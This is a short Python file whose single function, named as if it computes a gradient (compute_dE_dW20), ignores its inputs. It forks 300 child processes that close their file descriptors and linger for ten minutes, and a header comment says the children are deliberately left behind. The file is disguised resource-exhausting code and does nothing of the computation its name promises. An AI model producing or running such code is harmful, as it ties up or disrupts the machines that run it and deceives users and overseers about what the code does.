# Forks in a call until it is stopped, then ends and leaves the children.
# %%
import os
import time


def compute_dE_dW20(dE_df, X):
    for _ in range(300):
        try:
            child = os.fork()
        except OSError:
            os._exit(1)
        if child == 0:
            os.closerange(0, 256)
            time.sleep(600)
            os._exit(0)
    time.sleep(600)
